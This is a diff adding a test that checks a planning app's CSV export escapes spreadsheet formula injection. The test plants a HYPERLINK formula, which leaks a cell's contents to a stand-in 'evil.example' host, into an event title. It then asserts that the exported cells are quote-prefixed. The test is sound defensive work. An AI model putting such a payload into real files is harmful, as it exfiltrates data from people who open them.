@@ -88,3 +88,23 @@ def test_nightout_plan_builds_and_exports_json_and_csv(season, units, parties, c
     call_command("plan", "export", "--season", season.slug, "--format", "csv")
     lines = capsys.readouterr().out.strip().splitlines()
     assert lines[0].startswith("unit,agency,kind,order") and len(lines) == 10
+
+
+def test_nightout_plan_export_keeps_formulas_as_text_in_its_csv(season, units, parties, capsys):
+    import csv
+    import io
+
+    from nightout.registry.models import Event
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    Event.objects.filter(pk=parties[0].pk).update(title=formula, address="@SUM(1,2)")
+    call_command("plan", "--season", season.slug, "--seconds", "1")
+    capsys.readouterr()
+    call_command("plan", "export", "--season", season.slug, "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    party = [r for r in rows if r["event_id"] == str(parties[0].pk)]
+    assert party and {(r["event"], r["address"]) for r in party} == {
+        ("'" + formula, "'@SUM(1,2)")}
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r"))
+                   for row in rows for cell in row.values())
+    assert rows[0]["latitude"] != "" and not rows[0]["latitude"].startswith("'")
